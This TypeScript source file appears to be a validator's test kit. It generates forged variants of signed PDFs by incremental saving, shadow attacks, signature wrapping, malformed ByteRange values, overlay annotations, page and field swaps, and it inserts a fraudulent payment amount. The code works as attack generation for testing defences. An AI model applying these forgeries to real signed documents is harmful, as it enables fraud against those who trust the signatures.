/**
 * The attack kit: each class in several forms, over files signed honestly. A form answers undefined where it does not fit
 * the file. Sources: the published attacks on signed PDFs (incremental saving, signature wrapping, universal forgery,
 * shadow attacks, attacks on certified files), rebuilt here.
 */
import { Dict, Ref, spell } from '../../src/formats/pdf/objects.ts';
import type { Base } from './bases.ts';
import { edited, open, stream, update } from './update.ts';

type Form = (base: Base) => Buffer | undefined;
const evil = stream('BT /F1 14 Tf 72 700 Td (So tien: 9 000 000 000 dong) Tj ET');
const latin = (pdf: Uint8Array): string => Buffer.from(pdf).toString('latin1');

function contentsOf(base: Base, page = 0): number {
  const doc = open(base.pdf);
  const value = doc.dict(new Ref(base.pages[page] ?? 0, 0))?.get('Contents') ?? null;
  const first = value instanceof Ref && !doc.array(value) ? value : doc.array(value)?.[0];
  return first instanceof Ref ? first.num : 0;
}
/** The first object whose dictionary answers. */
function numberOf(base: Base, wanted: (dict: Dict) => boolean): number {
  const doc = open(base.pdf);
  for (const num of doc.xref.keys()) {
    const dict = doc.dict(new Ref(num, 0));
    if (dict && wanted(dict)) return num;
  }
  return 0;
}
const has = (key: string, value: string) => (dict: Dict) => {
  const v = dict.get(key);
  return !(v instanceof Dict) && v !== null && typeof v !== 'boolean' && spellSafe(v) === value;
};
const spellSafe = (value: Parameters<typeof spell>[0]): string => {
  try {
    return spell(value);
  } catch {
    return '';
  }
};
const pageTree = (base: Base): number => numberOf(base, has('Type', '/Pages'));
const kids = (base: Base, pages: readonly number[]): string =>
  edited(base.pdf, pageTree(base), { Kids: `[${pages.map((n) => `${n} 0 R`).join(' ')}]`, Count: String(pages.length) });
const annots = (base: Base): string => {
  const doc = open(base.pdf);
  return (doc.array(doc.dict(new Ref(base.pages[0] ?? 0, 0))?.get('Annots') ?? null) ?? []).map((v) => spell(v)).join(' ');
};
const withAnnotation =
  (annotation: string, form: Parameters<typeof update>[2] = {}): Form =>
  (base) =>
    update(
      base.pdf,
      {
        [base.pages[0] ?? 0]: edited(base.pdf, base.pages[0] ?? 0, { Annots: `[${annots(base)} ${base.next} 0 R]` }),
        [base.next]: annotation,
        [base.next + 1]: stream('1 1 1 rg 0 0 400 100 re f', '/Type /XObject /Subtype /Form /BBox [0 0 400 100] '),
      },
      form,
    );
const changed =
  (
    pick: (base: Base) => number,
    changes: (base: Base) => Readonly<Record<string, string | undefined>>,
    form: Parameters<typeof update>[2] = {},
  ): Form =>
  (base) => {
    const num = pick(base);
    return num === 0 ? undefined : update(base.pdf, { [num]: edited(base.pdf, num, changes(base)) }, form);
  };
const catalog = (changes: Readonly<Record<string, string | undefined>>): Form =>
  changed(
    (b) => b.catalog,
    () => changes,
  );
const page = (changes: Readonly<Record<string, string | undefined>>): Form =>
  changed(
    (b) => b.pages[0] ?? 0,
    () => changes,
  );
const form = (base: Base): { dict: Dict; fields: string[] } => {
  const doc = open(base.pdf);
  const dict = doc.dict(doc.catalog().dict.get('AcroForm')) ?? new Dict();
  return { dict, fields: (doc.array(dict.get('Fields')) ?? []).map((v) => spell(v)) };
};
/** The form written into the catalogue with changes. */
const formWith =
  (changes: (base: Base) => Readonly<Record<string, string>>, more: (base: Base) => Readonly<Record<number, string>> = () => ({})): Form =>
  (base) => {
    const { dict } = form(base);
    const said = changes(base);
    const entries = [...dict.entries].filter(([key]) => !(key in said)).map(([key, value]) => `/${key} ${spell(value)}`);
    const all = [...entries, ...Object.entries(said).map(([key, value]) => `/${key} ${value}`)].join(' ');
    return update(base.pdf, { [base.catalog]: edited(base.pdf, base.catalog, { AcroForm: `<<${all}>>` }), ...more(base) });
  };
/** The signature dictionary's text changed in place (its bytes are signed, but for `/Contents`). */
const inPlace =
  (change: (text: string, base: Base) => string): Form =>
  (base) => {
    const text = latin(base.pdf);
    const made = change(text, base);
    return made === text ? undefined : Buffer.from(made, 'latin1');
  };
const RANGE = /\/ByteRange (\[0 \d+ \d+ \d+\]) */;
const withRange = (range: string): Form =>
  inPlace((text) =>
    text.replace(RANGE, (whole) => `/ByteRange ${range}`.padEnd(whole.length, ' ').slice(0, Math.max(whole.length, range.length + 11))),
  );
const CONTENTS = /\/Contents <[0-9a-fA-F]{1000,}>/;
const rangeOf = (text: string): [number, number, number, number] => {
  const m = /\/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]/.exec(text);
  return [Number(m?.[1]), Number(m?.[2]), Number(m?.[3]), Number(m?.[4])];
};
const field = (base: Base, name: string): number => numberOf(base, has('T', `<${Buffer.from(name).toString('hex').toUpperCase()}>`));

const incrementalSaving: Record<string, Form> = {
  'content replaced': (b) => update(b.pdf, { [contentsOf(b)]: evil }),
  'content replaced, listed by a stream': (b) => update(b.pdf, { [contentsOf(b)]: evil }, { xref: 'stream' }),
  'content replaced, listed in a hidden stream': (b) => update(b.pdf, { [contentsOf(b)]: evil }, { xref: 'hybrid' }),
  'content added': (b) =>
    changed(
      (x) => x.pages[0] ?? 0,
      () => ({ Contents: `[${contentsOf(b)} 0 R ${b.next} 0 R]` }),
    )(b) &&
    update(b.pdf, {
      [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Contents: `[${contentsOf(b)} 0 R ${b.next} 0 R]` }),
      [b.next]: evil,
    }),
  'body without list and trailer': (b) => update(b.pdf, { [contentsOf(b)]: evil }, { xref: 'none' }),
  'body without list, then the old end again': (b) =>
    Buffer.concat([
      update(b.pdf, { [contentsOf(b)]: evil }, { xref: 'none' }),
      Buffer.from(`startxref\n${open(b.pdf).sections[0]?.offset}\n%%EOF\n`),
    ]),
  'objects in comments': (b) => Buffer.concat([b.pdf, Buffer.from(`%${contentsOf(b)} 0 obj\n%${evil.replaceAll('\n', '\n%')}\n%endobj\n`)]),
  'an empty revision that hides an unlisted object': (b) =>
    update(b.pdf, { [b.next]: '<</X 1>>' }, { unlisted: [`${contentsOf(b)} 0 obj\n${evil}\nendobj`] }),
  'resources replaced': page({ Resources: '<</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Symbol>>>>>>' }),
  'trailing words': (b) => Buffer.concat([b.pdf, Buffer.from('1 0 obj <</Type /Catalog>> endobj')]),
};
const overlayObject = (base: Base): number => numberOf(base, (dict) => spellSafe(dict.get('BBox')) === '[0 0 595 842]');
const shadow: Record<string, Form> = {
  'hide: overlay emptied': (b) => update(b.pdf, { [overlayObject(b)]: stream('', '/Type /XObject /Subtype /Form /BBox [0 0 595 842] ') }),
  'hide: overlay freed': (b) => update(b.pdf, {}, { free: [overlayObject(b)] }),
  'hide: overlay becomes another type': (b) => update(b.pdf, { [overlayObject(b)]: '<</Type /XObject /Subtype /XML>>' }),
  'hide: the drawing of the overlay taken out of the content': page({ Contents: '6 0 R' }),
  'replace: font': (b) =>
    update(b.pdf, { [numberOf(b, has('BaseFont', '/Helvetica'))]: '<</Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats>>' }),
  'replace: value and look of a field': (b) =>
    update(b.pdf, {
      [field(b, 'amount')]: edited(b.pdf, field(b, 'amount'), { V: '(900)', AP: `<</N ${b.next} 0 R>>` }),
      [b.next]: stream('BT (900) Tj ET', '/Type /XObject /Subtype /Form /BBox [0 0 100 20] '),
    }),
  'replace: look of a field only': (b) => {
    const look = open(b.pdf)
      .dict(
        open(b.pdf)
          .dict(new Ref(field(b, 'amount'), 0))
          ?.get('AP') ?? null,
      )
      ?.get('N');
    return look instanceof Ref
      ? update(b.pdf, { [look.num]: stream('BT (900) Tj ET', '/Type /XObject /Subtype /Form /BBox [0 0 100 20] ') })
      : undefined;
  },
  'hide and replace: the hidden page takes the place': (b) => update(b.pdf, { [pageTree(b)]: kids(b, [16, ...b.pages.slice(1)]) }),
  'hide and replace: another catalogue': (b) =>
    update(
      b.pdf,
      { [b.next]: `<</Type /Catalog /Pages ${b.next + 1} 0 R>>`, [b.next + 1]: '<</Type /Pages /Kids [16 0 R] /Count 1>>' },
      { trailer: { Root: `${b.next} 0 R` } },
    ),
  'hide and replace: only the list changes, towards bytes that were signed': (b) => {
    const at = latin(b.pdf).indexOf('17 0 obj');
    return at < 0 ? undefined : update(b.pdf, {}, { at: { [contentsOf(b)]: at } });
  },
  'hide and replace: generation changed': (b) => update(b.pdf, {}, { free: [contentsOf(b)] }),
};
const wrapping: Record<string, Form> = {
  'second part moved behind other content': inPlace((text) => {
    const [, a, gapEnd, rest] = rangeOf(text);
    const tail = text.slice(gapEnd, gapEnd + rest);
    const more = `\n${17} 0 obj\n${evil}\nendobj\n`;
    const moved = gapEnd + more.length;
    return `${text.slice(0, a)}${text.slice(a, gapEnd)}${more}${tail}`.replace(RANGE, (w) =>
      `/ByteRange [0 ${a} ${moved} ${rest}]`.padEnd(w.length),
    );
  }),
  'content inside the gap before the string': inPlace((text) => text.replace(/\/Contents </, '/Contents <000000> /X <')),
  'a second dictionary behind the string': inPlace((text) =>
    text.replace(CONTENTS, (m) => m.replace(/0{40}>$/, '>/Evil (000000000000000000000000000000)')),
  ),
  'two contents': inPlace((text) => text.replace(/\/Contents </, '/Contents <00> /Contents <')),
  'the range covers the first part only': inPlace((text) => {
    const [, a] = rangeOf(text);
    return text.replace(RANGE, (w) => `/ByteRange [0 ${a} ${a} 0]`.padEnd(w.length));
  }),
  'digits that are none in the string': inPlace((text) => text.replace(/0{6}>/, '00(x)>')),
};
const universalForgery: Record<string, Form> = {
  'range of zeros': withRange('[0 0 0 0]'),
  'negative range': withRange('[0 -1 -1 -1]'),
  'negative start': withRange('[-1 10 20 30]'),
  'range null': withRange('null'),
  'range of two': withRange('[0 100]'),
  'range of six': withRange('[0 1 2 3 4 5]'),
  'range empty': withRange('[]'),
  'range of names': withRange('[/a /b /c /d]'),
  'range of fractions': withRange('[0.5 1.5 2 3]'),
  'range beyond the file': withRange('[0 10 20 99999999]'),
  'range overlaps itself': inPlace((text) => {
    const [, a, , rest] = rangeOf(text);
    return text.replace(RANGE, (w) => `/ByteRange [0 ${a} ${a - 50} ${rest}]`.padEnd(w.length));
  }),
  'range missing': inPlace((text) => text.replace('/ByteRange ', '/ByteRangf ')),
  'contents missing': inPlace((text) => text.replace(/\/Contents </, '/Contentz <')),
  'contents empty': inPlace((text) => text.replace(CONTENTS, (m) => '/Contents <>'.padEnd(m.length))),
  'contents null': inPlace((text) => text.replace(CONTENTS, (m) => '/Contents null'.padEnd(m.length))),
  'contents zeros': inPlace((text) => text.replace(CONTENTS, (m) => `/Contents <${'0'.repeat(m.length - 12)}>`)),
  'contents of one byte': inPlace((text) => text.replace(CONTENTS, (m) => '/Contents <00>'.padEnd(m.length))),
  'contents a reference': inPlace((text) => text.replace(CONTENTS, (m) => '/Contents 1 0 R'.padEnd(m.length))),
  'contents a literal string': inPlace((text) => text.replace(CONTENTS, (m) => `/Contents (${'a'.repeat(m.length - 12)})`)),
  'subfilter unknown': inPlace((text) => text.replace('ETSI.CAdES.detached', 'ETSI.CAdES.detachet')),
  'subfilter of a timestamp': inPlace((text) => text.replace('ETSI.CAdES.detached', 'ETSI.RFC3161       ')),
  'subfilter missing': inPlace((text) => text.replace('/SubFilter ', '/SubFiltre ')),
};
const overlay: Record<string, Form> = {
  'free text': withAnnotation('<</Type /Annot /Subtype /FreeText /Rect [72 680 400 720] /Contents (9 000 000 000) /DA (/Helv 12 Tf)>>'),
  'free text, packed': (b) =>
    open(b.pdf).sections[0]?.kind === 'stream'
      ? update(
          b.pdf,
          {
            [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Annots: `[${annots(b)} ${b.next} 0 R]` }),
            [b.next]: '<</Type /Annot /Subtype /FreeText /Rect [72 680 400 720] /Contents (9)>>',
          },
          { xref: 'packed' },
        )
      : undefined,
  stamp: (b) => withAnnotation(`<</Type /Annot /Subtype /Stamp /Rect [72 680 400 720] /AP <</N ${b.next + 1} 0 R>>>>`)(b),
  'stamp in a hidden stream': (b) =>
    withAnnotation(`<</Type /Annot /Subtype /Stamp /Rect [72 680 400 720] /AP <</N ${b.next + 1} 0 R>>>>`, { xref: 'hybrid' })(b),
  square: withAnnotation('<</Type /Annot /Subtype /Square /IC [1 1 1] /C [1 1 1] /Rect [72 680 400 720]>>'),
  redaction: withAnnotation('<</Type /Annot /Subtype /Redact /Rect [72 680 400 720]>>'),
  link: withAnnotation('<</Type /Annot /Subtype /Link /Rect [72 680 400 720] /A <</S /URI /URI (http://a)>>>>'),
  note: withAnnotation('<</Type /Annot /Subtype /Text /Rect [72 680 90 700] /Contents (x)>>'),
  'text field': withAnnotation('<</Type /Annot /Subtype /Widget /FT /Tx /T (x) /V (9) /Rect [72 680 400 720]>>'),
  'unsigned signature field': withAnnotation('<</Type /Annot /Subtype /Widget /FT /Sig /T (x) /Rect [72 680 400 720]>>'),
  'unsigned signature field in the form': (b) => {
    const { fields } = form(b);
    const made = formWith(
      () => ({ Fields: `[${fields.join(' ')} ${b.next} 0 R]` }),
      () => ({
        [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Annots: `[${annots(b)} ${b.next} 0 R]` }),
        [b.next]: `<</Type /Annot /Subtype /Widget /FT /Sig /T (x) /Rect [72 680 400 720] /AP <</N ${b.next + 1} 0 R>>>>`,
        [b.next + 1]: stream('1 g 0 0 400 100 re f', '/Type /XObject /Subtype /Form /BBox [0 0 400 100] '),
      }),
    );
    return made(b);
  },
  'forged signature field over the text': (b) => {
    const { fields } = form(b);
    return formWith(
      () => ({ Fields: `[${fields.join(' ')} ${b.next} 0 R]` }),
      () => ({
        [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Annots: `[${annots(b)} ${b.next} 0 R]` }),
        [b.next]: `<</Type /Annot /Subtype /Widget /FT /Sig /T (x) /V ${b.next + 2} 0 R /Rect [72 680 400 720] /AP <</N ${b.next + 1} 0 R>>>>`,
        [b.next + 1]: stream('1 g 0 0 400 100 re f', '/Type /XObject /Subtype /Form /BBox [0 0 400 100] '),
        [b.next + 2]: '<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 30] /Contents <3000>>>',
      }),
    )(b);
  },
  'old signature shown in a new field': (b) => {
    const { fields } = form(b);
    return formWith(
      () => ({ Fields: `[${fields.join(' ')} ${b.next} 0 R]` }),
      () => ({
        [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Annots: `[${annots(b)} ${b.next} 0 R]` }),
        [b.next]: `<</Type /Annot /Subtype /Widget /FT /Sig /T (x) /V ${b.signature} 0 R /Rect [72 680 400 720]>>`,
      }),
    )(b);
  },
};
const appearance: Record<string, Form> = {
  'look of the signature written anew': (b) =>
    update(b.pdf, { [b.appearance]: stream('0 0 120 50 re f', '/Type /XObject /Subtype /Form /BBox [0 0 120 50] ') }),
  'look of the signature exchanged': (b) =>
    update(b.pdf, {
      [b.field]: edited(b.pdf, b.field, { AP: `<</N ${b.next} 0 R>>` }),
      [b.next]: stream('0 0 120 50 re f', '/Type /XObject /Subtype /Form /BBox [0 0 120 50] '),
    }),
  'look of the signature taken away': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { AP: undefined }) }),
  'signature moved over the text': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { Rect: '[0 600 595 842]' }) }),
  'signature hidden': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { F: '2' }) }),
  'signature given an action': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { AA: '<</E <</S /JavaScript /JS (x)>>>>' }) }),
  'signature given a caption': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { MK: '<</CA (x)>>' }) }),
};
const pages: Record<string, Form> = {
  'page added at the end': (b) =>
    update(b.pdf, {
      [pageTree(b)]: kids(b, [...b.pages, b.next]),
      [b.next]: `<</Type /Page /Parent ${pageTree(b)} 0 R /MediaBox [0 0 595 842]>>`,
    }),
  'page added in front': (b) =>
    update(b.pdf, {
      [pageTree(b)]: kids(b, [b.next, ...b.pages]),
      [b.next]: `<</Type /Page /Parent ${pageTree(b)} 0 R /MediaBox [0 0 595 842]>>`,
    }),
  'page removed': (b) => update(b.pdf, { [pageTree(b)]: kids(b, b.pages.slice(0, -1)) }),
  'page freed': (b) => update(b.pdf, {}, { free: [b.pages[2] ?? 0] }),
  'pages swapped': (b) => update(b.pdf, { [pageTree(b)]: kids(b, [b.pages[1] ?? 0, b.pages[0] ?? 0, b.pages[2] ?? 0]) }),
  'page twice': (b) => update(b.pdf, { [pageTree(b)]: kids(b, [...b.pages, b.pages[1] ?? 0]) }),
  'page exchanged': (b) =>
    update(b.pdf, {
      [b.pages[1] ?? 0]: `<</Type /Page /Parent ${pageTree(b)} 0 R /MediaBox [0 0 595 842] /Contents ${b.next} 0 R>>`,
      [b.next]: evil,
    }),
  'page exchanged, listed by a stream': (b) =>
    update(b.pdf, { [b.pages[1] ?? 0]: `<</Type /Page /Parent ${pageTree(b)} 0 R /MediaBox [0 0 595 842]>>` }, { xref: 'stream' }),
  'page turned': page({ Rotate: '180' }),
  'page cut': page({ CropBox: '[0 0 595 500]' }),
  'page made larger': page({ MediaBox: '[0 0 1000 1000]' }),
  'page units changed': page({ UserUnit: '2' }),
  'page tree exchanged': catalog({ Pages: '<</Type /Pages /Kids [] /Count 0>>' }),
};
const duplicates: Record<string, Form> = {
  'an object twice in the update, one listed': (b) =>
    update(b.pdf, { [b.next]: '<</X 1>>' }, { unlisted: [`${b.next} 0 obj\n${evil}\nendobj`] }),
  'the page again, unlisted': (b) =>
    update(b.pdf, { [b.next]: '<</X 1>>' }, { unlisted: [`${b.pages[0]} 0 obj\n<</Type /Page>>\nendobj`] }),
  'the catalogue twice': (b) =>
    update(
      b.pdf,
      { [b.catalog]: edited(b.pdf, b.catalog, { PageMode: '/FullScreen' }) },
      { unlisted: [`${b.catalog} 0 obj\n<</Type /Catalog>>\nendobj`] },
    ),
  'a key twice in the catalogue': (b) =>
    update(b.pdf, {
      [b.catalog]: `${edited(b.pdf, b.catalog, {}).slice(0, -2)} /Pages ${b.next} 0 R>>`,
      [b.next]: '<</Type /Pages /Kids [16 0 R] /Count 1>>',
    }),
  'an unlisted object behind a comment': (b) =>
    update(b.pdf, { [b.next]: '<</X 1>>' }, { unlisted: [`% note\r${contentsOf(b)}  0\tobj\n${evil}\nendobj`] }),
};
const renewed: Record<string, Form> = {
  'dictionary written again': (b) => update(b.pdf, { [b.signature]: edited(b.pdf, b.signature, {}) }),
  'dictionary with another reason': (b) => update(b.pdf, { [b.signature]: edited(b.pdf, b.signature, { Reason: '(x)' }) }),
  'dictionary with another time': (b) => update(b.pdf, { [b.signature]: edited(b.pdf, b.signature, { M: '(D:20200101000000Z)' }) }),
  'dictionary copied to a new number': (b) =>
    update(b.pdf, { [b.next]: edited(b.pdf, b.signature, {}), [b.field]: edited(b.pdf, b.field, { V: `${b.next} 0 R` }) }),
  'dictionary inside the field': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { V: edited(b.pdf, b.signature, {}) }) }),
  'value taken away': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { V: undefined }) }),
  'dictionary freed': (b) => update(b.pdf, {}, { free: [b.signature] }),
  'list leads to a copy': (b) => {
    const made = update(b.pdf, { [b.next]: edited(b.pdf, b.signature, {}) }, { xref: 'none' });
    return update(made, {}, { at: { [b.signature]: b.pdf.length } });
  },
};
const protectedLater: Record<string, Form> = {
  'encryption in the newest list': (b) =>
    update(
      b.pdf,
      { [b.next]: '<</Filter /Standard /V 2 /R 3 /Length 128 /O (x) /U (x) /P -4>>' },
      { trailer: { Encrypt: `${b.next} 0 R` } },
    ),
  'a filter that leaves all as it stands': (b) =>
    update(
      b.pdf,
      {
        [contentsOf(b)]: evil,
        [b.next]: '<</Filter /Standard /V 4 /R 4 /Length 128 /StmF /Identity /StrF /Identity /CF <<>> /O (x) /U (x) /P -4>>',
      },
      { trailer: { Encrypt: `${b.next} 0 R` } },
    ),
  'validation data that is the page': (b) =>
    update(b.pdf, {
      [b.catalog]: edited(b.pdf, b.catalog, { DSS: `<</Certs [${contentsOf(b)} 0 R]>>` }),
      [contentsOf(b)]: evil,
    }),
  'metadata that is the page': (b) =>
    update(b.pdf, { [b.catalog]: edited(b.pdf, b.catalog, { Metadata: `${contentsOf(b)} 0 R` }), [contentsOf(b)]: evil }),
};
const hiddenXref: Record<string, Form> = {
  'list without the earlier ones': (b) => update(b.pdf, { [contentsOf(b)]: evil }, { trailer: { Prev: '0' } }),
  'list that leads back behind itself': (b) => update(b.pdf, { [contentsOf(b)]: evil }, { trailer: { Prev: String(b.pdf.length + 1) } }),
  'two ends': (b) =>
    Buffer.concat([update(b.pdf, { [contentsOf(b)]: evil }), Buffer.from(`startxref\n${open(b.pdf).sections[0]?.offset}\n%%EOF\n`)]),
  'end that names nothing': (b) =>
    Buffer.concat([update(b.pdf, { [contentsOf(b)]: evil }, { xref: 'none' }), Buffer.from('startxref\n5\n%%EOF\n')]),
  'trailer of encryption': (b) =>
    update(b.pdf, { [b.next]: '<</Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4>>' }, { trailer: { Encrypt: `${b.next} 0 R` } }),
  'hybrid list over a table': (b) =>
    update(b.pdf, { [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Contents: '17 0 R' }) }, { xref: 'hybrid' }),
};
const objectStreams: Record<string, Form> = {
  'page in an object stream': (b) =>
    update(b.pdf, { [b.pages[0] ?? 0]: edited(b.pdf, b.pages[0] ?? 0, { Contents: '17 0 R' }) }, { xref: 'packed' }),
  'catalogue in an object stream': (b) =>
    update(b.pdf, { [b.catalog]: edited(b.pdf, b.catalog, { OpenAction: '<</S /JavaScript /JS (x)>>' }) }, { xref: 'packed' }),
  'field in an object stream': (b) =>
    update(b.pdf, { [field(b, 'amount')]: edited(b.pdf, field(b, 'amount'), { V: '(900)' }) }, { xref: 'packed' }),
  'an existing object stream exchanged': (b) => {
    const container = numberOf(b, has('Type', '/ObjStm'));
    return container === 0
      ? undefined
      : update(b.pdf, { [container]: stream('4 0 <</Type /Page>>', '/Type /ObjStm /N 1 /First 4 ') }, { xref: 'stream' });
  },
};
const formAttacks: Record<string, Form> = {
  'values of two fields swapped': (b) =>
    update(b.pdf, {
      [field(b, 'amount')]: edited(b.pdf, field(b, 'amount'), { V: '(X)' }),
      [field(b, 'place')]: edited(b.pdf, field(b, 'place'), { V: '(100)' }),
    }),
  'names of two fields swapped': (b) =>
    update(b.pdf, {
      [field(b, 'amount')]: edited(b.pdf, field(b, 'amount'), { T: '(place)' }),
      [field(b, 'place')]: edited(b.pdf, field(b, 'place'), { T: '(amount)' }),
    }),
  'order of fields': formWith((b) => ({ Fields: `[${[...form(b).fields].reverse().join(' ')}]` })),
  'signature field left out of the form': formWith((b) => ({ Fields: `[${form(b).fields.slice(0, -1).join(' ')}]` })),
  'text fields left out of the form': formWith((b) => ({ Fields: `[${form(b).fields.slice(-1).join(' ')}]` })),
  'looks to be drawn anew': formWith(() => ({ NeedAppearances: 'true' })),
  'XFA added': formWith(() => ({ XFA: '(x)' })),
  'fonts of the form exchanged': formWith(() => ({ DR: '<</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Symbol>>>>>>' })),
  'order of calculation': formWith(() => ({ CO: '[11 0 R]' })),
  'signature field made a text field': (b) => update(b.pdf, { [b.field]: edited(b.pdf, b.field, { FT: '/Tx' }) }),
  'form taken away': catalog({ AcroForm: undefined }),
};
const catalogue: Record<string, Form> = {
  'script at opening': catalog({ OpenAction: '<</S /JavaScript /JS (app.alert(1))>>' }),
  'script by name': catalog({ Names: '<</JavaScript <</Names [(a) <</S /JavaScript /JS (x)>>]>>>>' }),
  'additional actions': catalog({ AA: '<</WC <</S /JavaScript /JS (x)>>>>' }),
  layers: catalog({ OCProperties: '<</OCGs [] /D <<>>>>' }),
  'view preferences': catalog({ ViewerPreferences: '<</HideToolbar true>>' }),
  outlines: catalog({ Outlines: '<</Type /Outlines>>' }),
  'embedded files': catalog({ Names: '<</EmbeddedFiles <</Names []>>>>' }),
  'spoken text in the structure': (b) => {
    const num = numberOf(b, has('S', '/P'));
    return num === 0 ? undefined : update(b.pdf, { [num]: edited(b.pdf, num, { ActualText: '(9 000 000 000)' }) });
  },
  'structure leads elsewhere': (b) => {
    const num = numberOf(b, has('Type', '/StructTreeRoot'));
    return num === 0 ? undefined : update(b.pdf, { [num]: edited(b.pdf, num, { K: '[]' }) });
  },
  'new element that speaks': (b) => {
    const num = numberOf(b, has('Type', '/StructTreeRoot'));
    const kid = numberOf(b, has('S', '/P'));
    return num === 0
      ? undefined
      : update(b.pdf, {
          [num]: edited(b.pdf, num, { K: `[${kid} 0 R ${b.next} 0 R]` }),
          [b.next]: `<</Type /StructElem /S /P /P ${num} 0 R /ActualText (x)>>`,
        });
  },
};

export const ATTACKS: Readonly<Record<string, Readonly<Record<string, Form>>>> = {
  'incremental saving': incrementalSaving,
  'shadow attacks': shadow,
  'signature wrapping': wrapping,
  'universal forgery': universalForgery,
  'overlay annotations': overlay,
  'replaced appearances': appearance,
  'pages added, removed and swapped': pages,
  'duplicate objects': duplicates,
  'renewed signature dictionary': renewed,
  'encryption and validation data': protectedLater,
  'hidden cross-references': hiddenXref,
  'object streams': objectStreams,
  'form fields swapped': formAttacks,
  'catalogue and structure': catalogue,
};
